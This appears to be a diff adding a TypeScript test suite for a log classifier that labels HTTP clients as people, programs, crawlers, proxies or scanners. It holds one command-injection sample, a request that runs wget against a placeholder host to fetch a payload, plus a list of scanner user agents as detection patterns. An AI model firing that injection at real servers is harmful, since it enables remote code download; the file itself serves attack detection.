@@ -1,0 +1,236 @@
+// Each kind of client: a sample, one that nearly is of the kind, and one that pretends to be.
+import { describe, expect, test } from 'vitest';
+import type { CauseId } from '../../../src/judge/catalogue.ts';
+import { type ClientKind, isAttacker, whoSent } from '../../../src/judge/clients/who.ts';
+import { HitView } from '../../../src/judge/evidence/view.ts';
+import { entryOf, FIREFOX, hitOf, type Line, tablesOf } from '../literal.ts';
+import { pair } from '../pair.ts';
+
+const CURL = 'curl/8.5.0';
+const attacks = (http_user_agent: string): boolean => isAttacker({ request: 'GET / HTTP/1.1', http_user_agent });
+const GOOGLEBOT = 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)';
+const KUBE = 'kube-probe/1.28';
+const PRIVATE = '10.0.0.5';
+const PAGE: Line = { at: -600, request: 'GET /shop HTTP/1.1' };
+const STYLE: Line = { at: -600, request: 'GET /shop.css HTTP/1.1', http_referer: 'https://a.example/shop' };
+const SHELL = 'GET /x?a=$(wget%20http://192.0.2.66/m) HTTP/1.1';
+const REFUSED: Line = { request: 'GET /basket HTTP/1.1', status: 400, body_bytes_sent: 157 };
+
+/** Who sent a refused line, after these lines in the log. */
+function who(
+  line: Line,
+  seen: readonly Line[] = [],
+  cause: CauseId = 'invalid-header',
+  after: readonly Line[] = [],
+): ClientKind {
+  const last: Line = { ...REFUSED, ...line };
+  const tables = tablesOf([...seen, last]);
+  const { client } = entryOf(last);
+  const near = seen.filter((one) => (one.at ?? 0) >= -120 && entryOf(one).client === client).toReversed();
+  return whoSent(new HitView(hitOf(last, near, after), tables), tables, cause);
+}
+
+const by = (http_user_agent: string, ...lines: readonly Line[]): Line[] =>
+  lines.map((line) => ({ ...line, http_user_agent }));
+const at = (...times: readonly number[]): Line[] =>
+  times.map((time) => ({ at: time, request: `GET /${time} HTTP/1.1` }));
+/** Many people behind one address. */
+const crowdOf = (client: string): Line[] =>
+  Array.from({ length: 400 }, (_, i) => ({
+    at: -900,
+    client,
+    http_user_agent: `Mozilla/5.0 (X11; n${i % 40}) Gecko/1`,
+  }));
+
+describe('a person', () => {
+  test('loaded a page and its style, or followed a link', () => {
+    expect(who({}, [PAGE, STYLE])).toBe('person');
+    expect(
+      who({}, [
+        { ...STYLE, client: '192.0.2.8' },
+        { ...PAGE, http_referer: 'https://a.example/' },
+      ]),
+    ).toBe('person');
+    expect(
+      who({}, [], 'invalid-header', [
+        { ...PAGE, at: 2 },
+        { ...STYLE, at: 3 },
+      ]),
+    ).toBe('person');
+  });
+
+  test('shows by itself where only a visited site makes cookies grow, or by an upload from a page', () => {
+    expect(who({}, [], 'cookie-or-header-too-large')).toBe('person');
+    expect(who({ http_referer: 'https://a.example/form' }, [], 'upload-cut-short')).toBe('person');
+    expect(who({}, [], 'upload-cut-short')).toBe('stranger');
+    expect(who({ http_user_agent: CURL }, [], 'cookie-or-header-too-large')).toBe('stranger');
+  });
+
+  test('is nobody who loaded a page alone, an icon, or calls itself a program', () => {
+    expect(who({}, [PAGE])).toBe('stranger');
+    expect(who({}, [PAGE, { ...STYLE, request: 'GET /favicon.ico HTTP/1.1', http_referer: '-' }])).toBe('stranger');
+    expect(who({ http_user_agent: CURL }, by(CURL, PAGE, STYLE))).toBe('stranger');
+  });
+
+  test('is no scanner with a referer of its own making', () => {
+    const [first] = [{ ...STYLE, client: '192.0.2.8' }];
+    expect(who({}, [first, { ...PAGE, http_referer: 'https://a.example/shop' }])).toBe('stranger');
+    expect(who({}, [first, { ...PAGE, http_referer: 'https://spam.example/' }])).toBe('stranger');
+    expect(who({}, [first, { at: -600, http_referer: 'https://a.example/x' }])).toBe('stranger');
+    expect(who({ request: SHELL }, [STYLE, PAGE])).toBe('person');
+    expect(who({ request: SHELL }, [PAGE, STYLE, ...at(-5, -4).map((line) => ({ ...line, status: 404 }))])).toBe(
+      'scanner',
+    );
+  });
+});
+
+describe('a program', () => {
+  pair('who', 'LEAST_ANSWERS', {
+    inside: () => expect(who({ http_user_agent: CURL }, by(CURL, ...at(-100, -60, -30)))).toBe('program'),
+    outside: () => expect(who({ http_user_agent: CURL }, by(CURL, ...at(-100, -60)))).toBe('stranger'),
+  });
+
+  pair('who', 'LEAST_KNOWN_SECONDS', {
+    inside: () => expect(who({ http_user_agent: CURL }, by(CURL, ...at(-60, -40, -20)))).toBe('program'),
+    outside: () => expect(who({ http_user_agent: CURL }, by(CURL, ...at(-59, -40, -20)))).toBe('stranger'),
+  });
+
+  pair('who', 'LEAST_REPEATS', {
+    inside: () =>
+      expect(
+        who(
+          { client: PRIVATE },
+          [REFUSED, REFUSED].map((line) => ({ ...line, client: PRIVATE })),
+        ),
+      ).toBe('program'),
+    outside: () => expect(who({ client: PRIVATE }, [{ ...REFUSED, client: PRIVATE }])).toBe('stranger'),
+  });
+
+  test('wrote something that was accepted', () => {
+    const wrote = (request: string, status: number): ClientKind =>
+      who({ http_user_agent: CURL }, by(CURL, { at: -300, request, status }));
+    expect(wrote('POST /orders HTTP/1.1', 201)).toBe('program');
+    expect(wrote('POST /orders HTTP/1.1', 200)).toBe('stranger');
+    expect(wrote('DELETE /orders/7 HTTP/1.1', 200)).toBe('program');
+    expect(wrote('OPTIONS /orders HTTP/1.1', 204)).toBe('stranger');
+    expect(wrote('PUT /orders HTTP/1.1', 405)).toBe('stranger');
+  });
+
+  test('asks the application for what others get from it', () => {
+    const others: Line = { at: -300, client: '192.0.2.8', request: 'GET /basket HTTP/1.1' };
+    expect(who({ http_user_agent: CURL }, [others], 'application-400')).toBe('program');
+    expect(who({ http_user_agent: CURL }, [others])).toBe('stranger');
+    expect(who({}, [others], 'application-400')).toBe('stranger');
+    const front = { ...others, request: 'GET / HTTP/1.1' };
+    expect(who({ http_user_agent: CURL, request: 'GET / HTTP/1.1' }, [front], 'application-400')).toBe('stranger');
+  });
+
+  test('is none that was refused more often, or sends attack text', () => {
+    const refused = at(-9, -8, -7).map((line) => ({ ...line, status: 404 }));
+    expect(who({ http_user_agent: CURL }, by(CURL, ...at(-100, -60, -30), ...refused))).toBe('stranger');
+    const wrote: Line = { at: -300, request: 'POST /orders HTTP/1.1', status: 201 };
+    expect(who({ http_user_agent: CURL, request: SHELL }, by(CURL, wrote))).toBe('scanner');
+  });
+});
+
+describe('a monitor, a crawler', () => {
+  test('name themselves', () => {
+    expect(who({ http_user_agent: KUBE })).toBe('monitor');
+    expect(who({ http_user_agent: GOOGLEBOT })).toBe('crawler');
+  });
+
+  test('are no clients whose names only look like that', () => {
+    expect(who({ http_user_agent: CURL })).toBe('stranger');
+    expect(who({ http_user_agent: FIREFOX.replace('Linux', 'Cubot') })).toBe('stranger');
+  });
+
+  test('are scanners when they attack', () => {
+    expect(who({ http_user_agent: `${KUBE} zgrab/0.x` })).toBe('scanner');
+    expect(who({ http_user_agent: GOOGLEBOT, request: SHELL })).toBe('scanner');
+    expect(who({ http_user_agent: KUBE }, by(KUBE, { at: -9, request: SHELL, status: 404 }))).toBe('scanner');
+  });
+});
+
+describe('somebody behind a proxy', () => {
+  const agent = 'Mozilla/5.0 (X11; n99) Gecko/1';
+
+  test('shares a private address with many', () => {
+    expect(who({ client: PRIVATE, http_user_agent: FIREFOX }, crowdOf(PRIVATE))).toBe('proxy');
+  });
+
+  test('is nobody with a private address of his own, or behind a public one', () => {
+    expect(who({ client: PRIVATE })).toBe('stranger');
+    expect(who({ client: '192.0.2.99', http_user_agent: FIREFOX }, crowdOf('192.0.2.99'))).toBe('stranger');
+  });
+
+  test('is a scanner with attack text, and does not spoil the others', () => {
+    const attack: Line = { client: PRIVATE, http_user_agent: FIREFOX, request: SHELL };
+    expect(who(attack, crowdOf(PRIVATE))).toBe('scanner');
+    expect(who({ client: PRIVATE, http_user_agent: agent }, [...crowdOf(PRIVATE), { ...attack, at: -5 }])).toBe(
+      'proxy',
+    );
+  });
+});
+
+describe('a scanner', () => {
+  pair('who', 'LEAST_REFUSALS', {
+    inside: () =>
+      expect(
+        who(
+          {},
+          at(-500, -400).map((line) => ({ ...line, status: 404 })),
+        ),
+      ).toBe('scanner'),
+    outside: () =>
+      expect(
+        who(
+          {},
+          at(-500).map((line) => ({ ...line, status: 404 })),
+        ),
+      ).toBe('stranger'),
+  });
+
+  pair('who', 'LEAST_CLIENTS_REFUSED', {
+    inside: () =>
+      expect(
+        who(
+          {},
+          ['192.0.2.8', '192.0.2.9'].map((client) => ({ ...REFUSED, client })),
+        ),
+      ).toBe('scanner'),
+    outside: () => expect(who({}, [{ ...REFUSED, client: '192.0.2.8' }])).toBe('stranger'),
+  });
+
+  test('has no name, names itself, or has a name that no browser sends', () => {
+    expect(who({ http_user_agent: '-' })).toBe('scanner');
+    expect(who({ http_user_agent: 'Mozilla/5.0 zgrab/0.x' })).toBe('scanner');
+    expect(who({ http_user_agent: 'Mozilla/5.0' })).toBe('scanner');
+    expect(['masscan/1.3', 'CensysInspect/1.1', 'Expanse, a Palo Alto Networks company'].map(attacks)).not.toContain(
+      false,
+    );
+    expect([FIREFOX, CURL, 'scandinavia/1.0'].map(attacks)).not.toContain(true);
+  });
+
+  test('is nobody who was answered, asks for one thing again and again, or sent nothing at all', () => {
+    expect(who({ http_user_agent: '-' }, by('-', ...at(-500)))).toBe('stranger');
+    expect(who({}, [REFUSED, REFUSED, REFUSED])).toBe('stranger');
+    expect(who({ request: '-', body_bytes_sent: 0, http_user_agent: '-' }, [], 'port-scan')).toBe('stranger');
+    const others = ['192.0.2.8', '192.0.2.9', '192.0.2.10'].map((client) => ({ ...REFUSED, client }));
+    expect(who({}, [...others, { ...REFUSED, client: '192.0.2.11', status: 200 }])).toBe('stranger');
+    expect(
+      who(
+        { request: 'GET / HTTP/1.1' },
+        others.map((line) => ({ ...line, request: 'GET / HTTP/1.1' })),
+      ),
+    ).toBe('stranger');
+  });
+
+  test('is known by its attack later, too', () => {
+    const tables = tablesOf([{ ...REFUSED, at: -600, request: SHELL }]);
+    const ask = (line: Line): ClientKind =>
+      whoSent(new HitView(hitOf({ ...REFUSED, ...line }), tables), tables, 'invalid-header');
+    expect(ask({})).toBe('stranger');
+    expect(ask({ at: -600, request: SHELL })).toBe('scanner');
+    expect(ask({})).toBe('scanner');
+  });
+});
